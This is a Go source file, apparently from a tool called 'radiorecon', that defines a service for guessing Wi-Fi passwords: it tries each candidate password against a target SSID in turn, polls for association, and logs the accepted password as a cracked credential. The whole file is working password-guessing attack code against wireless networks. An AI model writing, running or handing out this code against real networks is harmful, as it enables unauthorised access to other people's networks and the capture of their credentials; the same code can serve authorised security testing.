package service

import (
	"context"
	"fmt"
	"time"

	"radiorecon/internal/logger"
	"radiorecon/internal/models"
	"radiorecon/internal/radio"
)

const (
	attemptTimeout = 5000 * time.Millisecond
	attemptPoll    = 500 * time.Millisecond
)

// AttemptService tries candidate passwords against one SSID in order and
// stops at the first association.
type AttemptService struct {
	events  Appender
	clock   radio.Clock
	log     *logger.Logger
	timeout time.Duration
	poll    time.Duration
}

func NewAttemptService(events Appender, clock radio.Clock, log *logger.Logger) *AttemptService {
	return &AttemptService{
		events:  events,
		clock:   clock,
		log:     log.Named("attempt"),
		timeout: attemptTimeout,
		poll:    attemptPoll,
	}
}

// Attempt returns a successful outcome as soon as one password associates.
// The radio is disconnected after every candidate, including the winner.
// A connect error only skips that candidate; the returned error is set when
// the radio cannot be used at all.
func (s *AttemptService) Attempt(ctx context.Context, r radio.WifiRadio, target models.Target, passwords []string) (models.AttemptOutcome, error) {
	out := models.AttemptOutcome{Target: target}
	if !isActive(r) {
		s.log.Errorw("attempt skipped", "ssid", target.SSID, "err", "radio not active")
		return out, fmt.Errorf("attempt %q: %w", target.SSID, models.ErrHardwareUnavailable)
	}

	start := s.clock.Ticks()
	s.log.Infow("attempt started", "ssid", target.SSID, "candidates", len(passwords))
	for i, pw := range passwords {
		out.Tried = i + 1
		if !s.try(r, target.SSID, i, pw) {
			s.disconnect(r, target.SSID)
			continue
		}
		record(ctx, s.events, s.log, models.StreamCredential, models.CategoryWifiCracked, payloadWifiCracked(target.SSID, pw))
		s.disconnect(r, target.SSID)
		out.Password = pw
		out.Succeeded = true
		out.ElapsedMillis = int64(radio.TicksDiff(s.clock.Ticks(), start))
		s.log.Infow("credential accepted", "ssid", target.SSID, "candidate", i, "elapsed_ms", out.ElapsedMillis)
		return out, nil
	}
	out.ElapsedMillis = int64(radio.TicksDiff(s.clock.Ticks(), start))
	s.log.Infow("attempt exhausted", "ssid", target.SSID, "tried", out.Tried, "elapsed_ms", out.ElapsedMillis)
	return out, nil
}

// try issues one association request and polls until connected or the
// per-candidate deadline passes.
func (s *AttemptService) try(r radio.WifiRadio, ssid string, idx int, pw string) bool {
	if err := guard(func() error { return r.Connect(ssid, pw) }); err != nil {
		s.log.Warnw("connect failed", "ssid", ssid, "candidate", idx, "err", asKind(err, models.ErrConnection))
		return false
	}
	deadline := radio.TicksAdd(s.clock.Ticks(), int(s.timeout/time.Millisecond))
	for !s.connected(r) && radio.TicksDiff(deadline, s.clock.Ticks()) > 0 {
		s.clock.Sleep(s.poll)
	}
	return s.connected(r)
}

func (s *AttemptService) connected(r radio.WifiRadio) bool {
	var up bool
	if err := guard(func() error { up = r.IsConnected(); return nil }); err != nil {
		s.log.Warnw("link status failed", "err", err)
		return false
	}
	return up
}

func (s *AttemptService) disconnect(r radio.WifiRadio, ssid string) {
	if err := guard(r.Disconnect); err != nil {
		s.log.Warnw("disconnect failed", "ssid", ssid, "err", err)
	}
}
